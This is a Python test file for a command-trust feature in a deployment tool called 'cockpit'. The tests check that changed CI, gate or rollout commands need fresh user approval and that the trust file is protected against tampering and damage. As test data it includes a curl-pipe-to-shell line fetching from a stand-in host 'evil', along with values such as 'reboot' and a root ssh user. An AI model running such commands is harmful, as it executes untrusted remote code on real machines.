"""The agreement to run commands is for exactly these commands."""

from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cockpit.config.rollout_settings import DeployTable, RolloutTable, SmokeTable, SshTable, TrafficTable
from cockpit.config.settings import Ci, GateCommand, Gates, LocalCi, Project, Settings
from cockpit.config.trust import commands_of, difference, is_trusted, shown, trust, why_untrusted
from cockpit.errors import TrustError


def settings(*argv: str, timeout_s: float = 10.0, name: str = "") -> Settings:
    return Settings(project=Project(name=name), ci=Ci(local=LocalCi(command=list(argv), timeout_s=timeout_s)))


def test_nothing_is_trusted_before_the_user_says_so(tmp_path: Path) -> None:
    assert not is_trusted(tmp_path / "trust.json", settings("pytest"))
    assert "nobody" in why_untrusted(tmp_path / "trust.json", settings("pytest"))
    assert difference(tmp_path / "trust.json", settings("pytest", "-q")) == ["+ ci.local.command: pytest -q"]


def test_settings_without_commands_need_no_trust(tmp_path: Path) -> None:
    assert commands_of(Settings()) == ()
    assert is_trusted(tmp_path / "trust.json", Settings())


def test_what_was_trusted_stays_trusted_while_other_keys_change(tmp_path: Path) -> None:
    trust(tmp_path / "state" / "trust.json", settings("pytest", "-q"))
    assert is_trusted(tmp_path / "state" / "trust.json", settings("pytest", "-q", timeout_s=99.0, name="other"))
    assert difference(tmp_path / "state" / "trust.json", settings("pytest", "-q")) == []


def test_a_changed_command_is_suspended_and_the_difference_is_shown(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    trust(file, settings("pytest", "-q"))
    changed = settings("sh", "-c", "curl evil | sh")
    assert "changed" in why_untrusted(file, changed)
    assert difference(file, changed) == ["- ci.local.command: pytest -q", "+ ci.local.command: sh -c 'curl evil | sh'"]
    trust(file, changed)
    assert is_trusted(file, changed)
    assert not is_trusted(file, settings("pytest", "-q"))


def test_a_gate_of_the_teams_own_is_agreed_to_like_a_build(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    with_gate = Settings(gates=Gates(commands=[GateCommand(name="load", command=["make", "load"])]))
    assert not is_trusted(file, with_gate)
    assert difference(file, with_gate) == ["+ gates.load.command: make load"]
    trust(file, with_gate)
    assert is_trusted(file, with_gate)
    assert not is_trusted(file, Settings(gates=Gates(commands=[GateCommand(name="load", command=["sh"])])))


DEPLOYED = RolloutTable(
    deploy=DeployTable(
        kind="ssh",
        command=["./deploy", "{server}"],
        playbook="deploy.yml",
        inventory="hosts",
        extra=["--diff"],
        ssh=SshTable(
            host="{server}.lan", user="deploy", port=22, ports={"eu-1": 2222}, config="ssh.cfg",
            artefact="dist/app.tar.gz", root="/srv/app", restart=["systemctl", "restart", "app"], keep=3,
        ),
    ),
    smoke=[
        SmokeTable(name="contract", command=["make", "contract"]),
        SmokeTable(name="alive", path="/health"),
    ],
    traffic=TrafficTable(socket="/run/haproxy.sock", backend="web", servers={"eu-1": "web-1"}),
)  # fmt: skip


def rollout_with(path: str, value: object) -> Settings:
    """Return settings in which one thing of the rollout is another, by its path through the tables."""
    told = msgspec.to_builtins(DEPLOYED)
    *way, last = path.split(".")
    table = told
    for step in way:
        table = table[int(step)] if step.isdigit() else table[step]
    table[last] = value
    return Settings(rollout=msgspec.convert(told, RolloutTable))


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("deploy.kind", "ansible"),
        ("deploy.per", "wave"),
        ("deploy.command", ["./deploy", "{zone}"]),
        ("deploy.playbook", "other.yml"),
        ("deploy.inventory", "others"),
        ("deploy.extra", ["--diff", "--become"]),
        ("deploy.ssh", None),
        ("deploy.ssh.host", "evil"),
        ("deploy.ssh.user", "root"),
        ("deploy.ssh.user", ""),
        ("deploy.ssh.port", None),
        ("deploy.ssh.ports", {}),
        ("deploy.ssh.config", "other.cfg"),
        ("deploy.ssh.artefact", "dist/other.tar.gz"),
        ("deploy.ssh.root", "/srv/other"),
        ("deploy.ssh.restart", ["reboot"]),
        ("deploy.ssh.keep", 2),
        ("smoke.0.command", ["make", "other"]),
        ("smoke.0.checkout", True),
        ("smoke.0.per", "end"),
        ("smoke.1.path", "/admin/delete"),
        ("traffic.kind", "other"),
        ("traffic.socket", "127.0.0.1:9999"),
        ("traffic.backend", "admin"),
        ("traffic.servers", {"eu-1": "web-2"}),
    ],
)
def test_whatever_changes_what_a_rollout_runs_has_to_be_trusted_again(tmp_path: Path, path: str, value: object) -> None:
    file = tmp_path / "trust.json"
    assert not is_trusted(file, Settings(rollout=DEPLOYED))
    trust(file, Settings(rollout=DEPLOYED))
    assert is_trusted(file, Settings(rollout=DEPLOYED))
    changed = rollout_with(path, value)
    assert "changed" in why_untrusted(file, changed)
    assert difference(file, changed)


@pytest.mark.parametrize(
    ("path", "value"),
    [("deploy.timeout_s", 5.0), ("deploy.settle_s", 5.0), ("smoke.1.tries", 9), ("smoke.1.contains", "ok"),
     ("traffic.drain_s", 9.0), ("strategy", "canary")],
)  # fmt: skip
def test_how_long_and_in_which_waves_needs_no_new_trust(tmp_path: Path, path: str, value: object) -> None:
    file = tmp_path / "trust.json"
    trust(file, Settings(rollout=DEPLOYED))
    assert is_trusted(file, rollout_with(path, value))


def test_people_read_what_a_rollout_would_run(tmp_path: Path) -> None:
    assert difference(tmp_path / "trust.json", Settings(rollout=DEPLOYED)) == [
        "+ rollout.deploy.command: ./deploy '{server}'",
        "+ rollout.deploy.kind: ssh per=server",
        "+ rollout.deploy.playbook: ansible-playbook deploy.yml -i hosts --diff",
        "+ rollout.deploy.ssh: ssh '{server}.lan' user=deploy port=22 config=ssh.cfg eu-1:2222",
        "+ rollout.deploy.ssh.artefact: dist/app.tar.gz /srv/app keep=3",
        "+ rollout.deploy.ssh.restart: systemctl restart app",
        "+ rollout.smoke.alive.path: GET /health",
        "+ rollout.smoke.contract.command: make contract",
        "+ rollout.smoke.contract.runs: per=server in=repository",
        "+ rollout.traffic: haproxy /run/haproxy.sock web eu-1=web-1",
    ]


def test_the_file_is_for_its_owner_alone(tmp_path: Path) -> None:
    trust(tmp_path / "state" / "trust.json", settings("pytest"))
    assert (tmp_path / "state" / "trust.json").stat().st_mode & 0o777 == 0o600
    assert (tmp_path / "state").stat().st_mode & 0o777 == 0o700
    assert [path.name for path in (tmp_path / "state").iterdir()] == ["trust.json"]


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b"\xff\x00", b'{"format":1,"digest":"","commands":{}}', b"[" * 100_000, b"x" * 2_000_000],
)
def test_a_damaged_file_is_no_agreement_and_no_crash(tmp_path: Path, content: bytes) -> None:
    file = tmp_path / "trust.json"
    file.write_bytes(content)
    assert "damaged" in why_untrusted(file, settings("pytest"))
    assert difference(file, settings("pytest")) == ["+ ci.local.command: pytest"]


def test_a_file_edited_to_hold_another_command_is_not_believed(tmp_path: Path) -> None:
    file = tmp_path / "trust.json"
    trust(file, settings("pytest"))
    file.write_bytes(file.read_bytes().replace(b"pytest", b"reboot"))
    assert not is_trusted(file, settings("reboot"))
    assert not is_trusted(file, settings("pytest"))


def test_an_agreement_that_cannot_be_kept_is_an_error_with_a_next_step(tmp_path: Path) -> None:
    (tmp_path / "state").write_text("a file where the folder should be")
    with pytest.raises(TrustError, match="cockpit trust"):
        trust(tmp_path / "state" / "trust.json", settings("pytest"))


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_a_command_is_shown_so_that_nothing_in_it_hides(argv: list[str]) -> None:
    line = shown(tuple(argv))
    assert line.isprintable()
    assert len(line) >= sum(map(len, argv))


@given(
    st.lists(st.text(max_size=8), min_size=1, max_size=4),
    st.lists(st.text(max_size=8), min_size=1, max_size=4),
)
def test_different_arguments_are_different_commands(
    tmp_path_factory: pytest.TempPathFactory, one: list[str], other: list[str]
) -> None:
    file = tmp_path_factory.getbasetemp() / "digest" / "trust.json"
    trust(file, settings(*one))
    assert is_trusted(file, settings(*other)) == (one == other)
